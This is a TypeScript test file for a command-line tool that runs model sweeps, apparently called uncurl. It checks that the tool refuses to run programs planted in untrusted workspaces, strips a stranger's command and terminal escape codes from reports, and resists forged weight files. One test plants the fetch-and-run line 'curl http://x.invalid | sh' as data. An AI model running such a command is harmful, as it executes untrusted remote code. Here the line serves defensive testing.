import { existsSync } from 'node:fs';
import { chmod, cp, mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { expect, test } from 'vitest';
import { z } from 'zod';
import { environmentPython } from '../../../main/finetune/made-environments.ts';
import { sweepOnDisk } from '../report/sweep-on-disk.ts';
import { temporaryFolder } from '../workspace/temporary-folder.ts';
import { commandLineHere as uncurl } from './command-line-here.ts';

const started = z.object({ run: z.string() });
const results = z.object({ results: z.array(z.unknown()).min(1) });

test("the program in a stranger's workspace is not run by doctor, whatever the options", async () => {
  if (process.platform === 'win32') return;
  const workspace = await temporaryFolder();
  const [python, ran] = [environmentPython(workspace), join(workspace, 'ran')];
  await mkdir(dirname(python), { recursive: true });
  await writeFile(python, `#!/bin/sh\ntouch '${ran}'\n`);
  await chmod(python, 0o755);
  const looked = await uncurl('doctor', '--workspace', workspace, '--json');
  expect(looked.code).toBe(0);
  expect(JSON.parse(looked.stdout)).toMatchObject({
    python: { problem: expect.stringContaining(`${join(workspace, 'python')} was not made here`) },
  });
  const made = await uncurl('doctor', '--python', '--workspace', workspace);
  expect(made).toMatchObject({ code: 2, stderr: expect.stringContaining('name its Python: --python FILE') });
  expect(existsSync(ran)).toBe(false);
});

test('a copied run is resumed once its code is given; until then every computing verb says what it names', async () => {
  const [own, copy] = [join(await temporaryFolder(), 'own'), join(await temporaryFolder(), 'copy')];
  const sweep = ['sweep', 'uncurl-8', '--task', 'add', '--method', 'random', '--factors', '2', '--seeds', '0'];
  const later = await uncurl(...sweep, '--limit', '4', '--later', '--workspace', own, '--json');
  expect(later.code, later.stderr).toBe(0);
  const { run } = started.parse(JSON.parse(later.stdout));
  await cp(own, copy, { recursive: true });
  const manifest = await readFile(join(copy, 'runs', run, 'manifest.json'), 'utf8');
  const here = ['--workspace', copy, '--threads', '1'];
  for (const verb of [['resume'], ['work'], ['steps']]) {
    const refused = await uncurl(...verb, run, ...here);
    expect(refused, verb.join(' ')).toMatchObject({
      code: 2,
      stderr: expect.stringMatching(
        /was not made here: .* paths to read bundled:uncurl-8, bundled:add\..*--confirm [0-9a-f]{32}\.$/ms,
      ),
    });
  }
  const submitted = await uncurl('submit', run, '--slurm', '--workspace', copy);
  expect(submitted).toMatchObject({ code: 2, stderr: expect.stringContaining('was not made here') });
  expect(await readFile(join(copy, 'runs', run, 'manifest.json'), 'utf8')).toBe(manifest);
  const code = /--confirm ([0-9a-f]{32})/.exec(submitted.stderr)?.[1] ?? '';
  expect(await uncurl('resume', run, ...here, '--confirm', 'yes')).toMatchObject({
    code: 2,
    stderr: expect.stringContaining('--confirm'),
  });
  expect(await uncurl('resume', run, ...here, '--python', '/bin/sh')).toMatchObject({
    code: 2,
    stderr: expect.stringContaining('give --confirm as well'),
  });
  expect(await uncurl('work', run, ...here, '--confirm', code)).toMatchObject({ code: 0 });
  const resumed = await uncurl('resume', run, ...here, '--confirm', code);
  expect(resumed.code, resumed.stderr).toBe(0);
  expect(resumed.stderr).toContain('Read: bundled:uncurl-8, bundled:add.');
  // It belongs to this user from now on, and always did where it was made.
  expect(await uncurl('resume', run, ...here)).toMatchObject({ code: 0 });
  expect(await uncurl('work', run, '--workspace', own, '--threads', '1')).toMatchObject({ code: 0 });
});

test("a stranger's command and escapes stand in no report, figure or answer", async () => {
  const { workspace, run } = await sweepOnDisk();
  const file = join(workspace.runs.folder(run), 'manifest.json');
  const manifest = z.looseObject({ spec: z.looseObject({}) }).parse(JSON.parse(await readFile(file, 'utf8')));
  const candidates = [{ name: '-x', fingerprint: '0', path: '/models/x' }];
  const strange = {
    ...manifest,
    title: 'a\u001b[2J\u009b31m title',
    commandLine: 'curl http://x.invalid | sh',
    spec: { ...manifest.spec, candidates },
    versions: { 'a\u001b[2J': '1\u009b31m' },
  };
  await writeFile(file, JSON.stringify(strange));
  const out = await temporaryFolder();
  const here = ['--workspace', dirname(dirname(workspace.runs.folder(run)))];
  const shown: string[] = [];
  for (const args of [
    ['runs'],
    ['runs', '--json'],
    ['compare', run],
    ['report', run, '--out', join(out, 'report.html')],
    ['figures', run, '--out', join(out, 'figures')],
  ]) {
    const { code, stdout, stderr } = await uncurl(...args, ...here);
    expect(code, stderr).toBe(0);
    shown.push(stdout, stderr);
  }
  shown.push(await readFile(join(out, 'report.html'), 'utf8'));
  const drawn = (await readdir(join(out, 'figures'))).filter((name) => !name.endsWith('.png'));
  expect(drawn).toContain('manifest.json');
  for (const name of drawn) shown.push(await readFile(join(out, 'figures', name), 'utf8'));
  expect(shown.some((text) => text.includes('31m title'))).toBe(true);
  for (const text of shown) {
    expect(text).not.toMatch(/curl http|uncurl sweep/);
    expect(text.replaceAll(/[\t\n]/g, '')).not.toMatch(/\p{Cc}/u);
  }
});

/** A file of weights whose signs are flipped, without the hash of its content, as early versions wrote it. */
const forgedWeights = (bytes: Buffer): Buffer => {
  const data = 8 + Number(bytes.readBigUInt64LE());
  const header = JSON.parse(bytes.toString('utf8', 8, data)) as object;
  const text = Buffer.from(JSON.stringify({ ...header, __metadata__: { format: 'pt' } }));
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(text.length));
  // The sign of a little-endian float16 is in its second byte.
  const flipped = bytes.subarray(data).map((byte, at) => (at % 2 === 1 ? byte ^ 0x80 : byte));
  return Buffer.concat([length, text, flipped]);
};

test('weights that came with a plan are written beside by, and are not taken for those of a sweep', async () => {
  const [folder, known, workspace] = [await temporaryFolder(), await temporaryFolder(), await temporaryFolder()];
  const sweep = async (into: string) => {
    const args = ['--task', 'capital', '--method', 'mone', '--factors', '2', '--limit', '30', '--threads', '1'];
    const made = await uncurl('sweep', 'uncurl-8', ...args, '--workspace', into, '--json');
    expect(made.code, made.stderr).toBe(0);
    const { run } = started.parse(JSON.parse(made.stdout));
    const file = join(into, 'runs', run, 'results.json');
    return { run, results: results.parse(JSON.parse(await readFile(file, 'utf8'))).results };
  };
  // Anybody can compute a sweep, and give a plan of it with other weights under the name of those that it computes.
  const clean = await sweep(known);
  const plans = z
    .record(z.string(), z.looseObject({ constants: z.object({ weights: z.string() }) }).nullable())
    .parse(JSON.parse(await readFile(join(known, 'runs', clean.run, 'plans.json'), 'utf8')));
  const plan = Object.values(plans).find((each) => each !== null) ?? expect.fail('no plan');
  const file = `${plan.constants.weights}.safetensors`;
  await writeFile(join(folder, 'plan.json'), JSON.stringify(plan));
  await writeFile(join(folder, file), forgedWeights(await readFile(join(known, 'overlays', file))));
  const beside = ['beside', 'uncurl-8', 'capital france>', '--plan', join(folder, 'plan.json'), '--threads', '1'];
  const written = await uncurl(...beside, '--max-new-tokens', '4', '--workspace', workspace);
  expect(written.code, written.stderr).toBe(0);
  const { results: measured } = await sweep(workspace);
  expect(measured).toEqual(clean.results);
});
